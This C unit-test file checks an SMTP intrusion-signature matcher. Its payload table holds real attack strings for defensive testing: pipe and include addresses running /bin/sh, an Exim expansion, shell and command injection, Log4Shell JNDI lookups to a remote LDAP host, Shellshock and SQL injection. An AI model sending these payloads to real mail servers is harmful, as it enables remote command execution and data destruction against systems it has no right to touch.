/* SPDX-License-Identifier: ISC */
/*
 * test_sig.c - the signature reader and matcher: every shipped rule
 * (etc/signatures.conf) against its payload, ordinary text against every
 * stage, all hits of one text in one pass, longer=N, the match limit on a
 * rule that backtracks without end, and file:line for every kind of error.
 */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include <cmocka.h>

#include "sig/sig.h"

#define NELEM(a) (sizeof(a) / sizeof((a)[0]))

static struct sigset *shipped;

static int
setup(void **state)
{
	shipped = sigset_load("etc/signatures.conf", stderr);
	return shipped == NULL ? -1 : 0;
}

static int
teardown(void **state)
{
	sigset_free(shipped);
	return 0;
}

struct payload {
	enum sig_stage stage;
	const char *text;
	size_t full_len; /* 0: strlen */
	const char *rule;
};

static const struct payload payloads[] = {
    {SIG_COMMAND, "DEBUG", 0, "sendmail-debug"},
    {SIG_COMMAND, "debug on", 0, "sendmail-debug"},
    {SIG_COMMAND, "WIZ", 0, "sendmail-wiz"},
    {SIG_COMMAND, "KILL", 0, "sendmail-kill"},
    {SIG_COMMAND, "TURN", 0, "smtp-turn"},
    {SIG_COMMAND, "XEXCH50 2 2", 0, "exchange-xexch50"},
    {SIG_COMMAND, "BDAT 100 LAST", 0, "exim-bdat"},
    {SIG_RCPT, "TO:<\"|/bin/sh -c 'id'\">", 0, "pipe-address"},
    {SIG_MAIL, "FROM:<|/usr/bin/x>", 0, "pipe-address"},
    {SIG_RCPT, "TO:</etc/passwd>", 0, "file-address"},
    {SIG_RCPT, "TO:<:include:/etc/passwd>", 0, "include-address"},
    {SIG_COMMAND, "HELO aaaaaaaaaaaaaaaa", 5000, "overlong-helo"},
    {SIG_COMMAND, "MAIL FROM:<aaaaaaaaaa", 5000, "overlong-mail"},
    {SIG_COMMAND, "RCPT TO:<aaaaaaaaaaa", 5000, "overlong-rcpt"},
    {SIG_HELO, "%1$n", 0, "format-positional"},
    {SIG_MAIL, "FROM:<%s%s%s%s@x.test>", 0, "format-run"},
    {SIG_MAIL, "FROM:<;sleep 66;>", 0, "opensmtpd-7247"},
    {SIG_RCPT, "TO:<$(id)@x.test>", 0, "shell-subst"},
    {SIG_RCPT, "TO:<${run{\\x2Fbin\\x2Fsh\\t-c\\t\\x22id\\x22}}@localhost>", 0,
     "exim-expansion"},
    {SIG_TLS, "mx.example.test\\", 0, "exim-sni-backslash"},
    {SIG_MAIL, "FROM:<a@b.test> AUTH=x\\\\\\\\\\", 0, "exim-21nails-param"},
    {SIG_HELO, "${jndi:ldap://198.51.100.7/a}", 0, "log4shell"},
    {SIG_HEADER, "User-Agent: ${${lower:j}ndi:ldap://x/a}", 0, "log4shell"},
    {SIG_AUTH, "${jndi:dns://x/a}", 0, "log4shell"},
    {SIG_HELO, "() { :; }; /bin/id", 0, "shellshock"},
    {SIG_DATA, "\n.\n", 0, "smtp-smuggling"},
    {SIG_CONNECT, "GET / HTTP/1.1\r\nHost: x\r\n", 0, "http-request"},
    {SIG_COMMAND, "POST /cgi-bin/x HTTP/1.0", 0, "http-request"},
    {SIG_COMMAND, "CONNECT 192.0.2.1:25 HTTP/1.0", 0, "proxy-connect"},
    {SIG_CONNECT, "\x16\x03\x01\x02\x00\x01", 6, "tls-on-plaintext"},
    {SIG_AUTH, "admin' OR '1'='1", 0, "sql-injection"},
    {SIG_AUTH, "x'; DROP TABLE users; --", 0, "sql-injection"},
};

static int
hit(const struct sig_hits *h, const char *id)
{
	for (size_t i = 0; i < h->n; i++)
		if (strcmp(h->rule[i]->id, id) == 0)
			return 1;
	return 0;
}

static void
test_every_payload(void **state)
{
	for (size_t i = 0; i < NELEM(payloads); i++) {
		const struct payload *p = &payloads[i];
		struct sig_hits h;
		size_t len =
		    p->full_len && p->full_len < 100 ? p->full_len : strlen(p->text);

		sigset_match(shipped, p->stage, p->text, len,
		             p->full_len ? p->full_len : len, &h);
		if (!hit(&h, p->rule))
			fail_msg("%s: %s did not match", p->rule, p->text);
		assert_int_equal(h.cut, 0);
	}
}

/* every shipped rule has a payload above */
static void
test_every_rule_has_a_payload(void **state)
{
	char buf[256];
	FILE *f = fopen("etc/signatures.conf", "r");

	assert_non_null(f);
	while (fgets(buf, sizeof(buf), f) != NULL) {
		char id[80];
		if (buf[0] == '#' || sscanf(buf, "%79s", id) != 1)
			continue;
		size_t i;
		for (i = 0; i < NELEM(payloads); i++)
			if (strcmp(payloads[i].rule, id) == 0)
				break;
		if (i == NELEM(payloads))
			fail_msg("rule %s has no payload in test_sig.c", id);
	}
	fclose(f);
}

static const struct {
	enum sig_stage stage;
	const char *text;
} benign[] = {
    {SIG_COMMAND, "EHLO mail.example.org"},
    {SIG_COMMAND, "MAIL FROM:<alice+lists@example.org> SIZE=12345 BODY=8BITMIME"},
    {SIG_COMMAND, "RCPT TO:<bob@example.net> NOTIFY=SUCCESS,FAILURE"},
    {SIG_COMMAND, "AUTH PLAIN"},
    {SIG_COMMAND, "DATA"},
    {SIG_COMMAND, "QUIT"},
    {SIG_COMMAND, "STARTTLS"},
    {SIG_COMMAND, "NOOP"},
    {SIG_HELO, "mail-ed1-f41.google.com"},
    {SIG_HELO, "[192.0.2.1]"},
    {SIG_MAIL, "FROM:<>"},
    {SIG_MAIL, "FROM:<bounces+12345-abcd=example.org@em1234.example.com> SIZE=4000"},
    {SIG_MAIL, "FROM:<\"john smith\"@example.org>"},
    {SIG_RCPT, "TO:<postmaster>"},
    {SIG_RCPT, "TO:<o'brien@example.ie>"},
    {SIG_AUTH, "alice@example.org"},
    {SIG_AUTH, "o'brien"},
    {SIG_HEADER, "Subject: Re: 50% off, today only"},
    {SIG_HEADER, "Subject: about the log4j bug (CVE-2021-44228) and shellshock"},
    {SIG_HEADER, "Content-Type: text/plain; charset=\"utf-8\""},
    {SIG_HEADER, "DKIM-Signature: v=1; a=rsa-sha256; d=example.org; s=s1; bh=abc+/="},
    {SIG_TLS, "mx.example.org"},
    {SIG_CONNECT, "EHLO mail.example.org\r\n"},
};

static void
test_ordinary_text_matches_nothing(void **state)
{
	for (size_t i = 0; i < NELEM(benign); i++) {
		struct sig_hits h;
		size_t len = strlen(benign[i].text);
		if (sigset_match(shipped, benign[i].stage, benign[i].text, len, len,
		                 &h) != 0)
			fail_msg("%s matched %s", benign[i].text, h.rule[0]->id);
	}
}

static struct sigset *
parse(const char *text, char *err, size_t errsz)
{
	FILE *f = fmemopen(err, errsz, "w");
	struct sigset *s = sigset_parse("sig.conf", text, strlen(text), f);
	fclose(f);
	return s;
}

static void
test_all_hits_in_one_pass(void **state)
{
	char err[512] = "";
	struct sigset *s = parse("a command 1 - lit:abc\n"
	                         "b command,rcpt 2 - icase:XYZ\n"
	                         "c command 3 - re:b.\n"
	                         "d rcpt 4 - lit:abc\n",
	                         err, sizeof(err));
	struct sig_hits h;

	assert_non_null(s);
	assert_int_equal(sigset_count(s, -1), 4);
	assert_int_equal(sigset_count(s, SIG_RCPT), 2);
	assert_int_equal(sigset_match(s, SIG_COMMAND, "..xyz..abc", 10, 10, &h), 3);
	assert_string_equal(h.rule[0]->id, "a");
	assert_string_equal(h.rule[1]->id, "b");
	assert_string_equal(h.rule[2]->id, "c");
	assert_int_equal(sigset_match(s, SIG_RCPT, "abc", 3, 3, &h), 1);
	assert_string_equal(h.rule[0]->id, "d");
	assert_int_equal(sigset_match(s, SIG_HELO, "abc", 3, 3, &h), 0);
	sigset_free(s);
}

static void
test_longer(void **state)
{
	char err[512] = "";
	struct sigset *s = parse("long command 1 - longer=10 lit:x\n", err, sizeof(err));
	struct sig_hits h;

	assert_non_null(s);
	assert_int_equal(sigset_match(s, SIG_COMMAND, "x", 1, 10, &h), 0);
	assert_int_equal(sigset_match(s, SIG_COMMAND, "x", 1, 11, &h), 1);
	sigset_free(s);
}

static void
test_backtracking_is_bounded(void **state)
{
	char err[512] = "", text[1024];
	struct sigset *s = parse("slow command 1 - re:(a+)+$\nquick command 1 - lit:a\n",
	                         err, sizeof(err));
	struct sig_hits h;

	assert_non_null(s);
	memset(text, 'a', sizeof(text));
	text[sizeof(text) - 1] = 'b';
	sigset_match(s, SIG_COMMAND, text, sizeof(text), sizeof(text), &h);
	assert_int_equal(h.cut, 1);
	sigset_free(s);
}

static const struct {
	const char *text, *error;
} bad[] = {
    {"a command 1 -\n", "sig.conf:1: a rule is"},
    {"# c\n\nbad!id command 1 - lit:x\n", "sig.conf:3: rule id"},
    {"a body 1 - lit:x\n", "sig.conf:1: unknown stage \"body\""},
    {"a command 1001 - lit:x\n", "sig.conf:1: score"},
    {"a command x - lit:x\n", "sig.conf:1: score"},
    {"a command 1 - glob:x\n", "sig.conf:1: match kind"},
    {"a command 1 - re:(x\n", "sig.conf:1: unbalanced parentheses"},
    {"a command 1 - re:a)|(b\n", "sig.conf:1: unbalanced parentheses"},
    {"a command 1 - re:x[\n", "sig.conf:1: bad expression"},
    {"a command 1 - re:(x)\\1\n", "sig.conf:1: backreferences"},
    {"a command 1 - re:(*COMMIT)x\n", "sig.conf:1: backtracking control verbs"},
    {"a command 1 - re:x*\n", "sig.conf:1: the expression matches empty text"},
    {"a command 1 - longer=0 lit:x\n", "sig.conf:1: longer=N"},
    {"a command 1 - lit:x\na rcpt 1 - lit:y\n", "sig.conf:2: rule id a again"},
};

static void
test_errors_name_file_and_line(void **state)
{
	for (size_t i = 0; i < NELEM(bad); i++) {
		char err[512];
		memset(err, 0, sizeof(err));
		struct sigset *s = parse(bad[i].text, err, sizeof(err));
		if (s != NULL)
			fail_msg("accepted: %s", bad[i].text);
		if (strncmp(err, bad[i].error, strlen(bad[i].error)) != 0)
			fail_msg("%s: said \"%s\", not \"%s...\"", bad[i].text, err,
			         bad[i].error);
	}
}

int
main(void)
{
	const struct CMUnitTest tests[] = {
	    cmocka_unit_test(test_every_payload),
	    cmocka_unit_test(test_every_rule_has_a_payload),
	    cmocka_unit_test(test_ordinary_text_matches_nothing),
	    cmocka_unit_test(test_all_hits_in_one_pass),
	    cmocka_unit_test(test_longer),
	    cmocka_unit_test(test_backtracking_is_bounded),
	    cmocka_unit_test(test_errors_name_file_and_line),
	};
	return cmocka_run_group_tests(tests, setup, teardown);
}
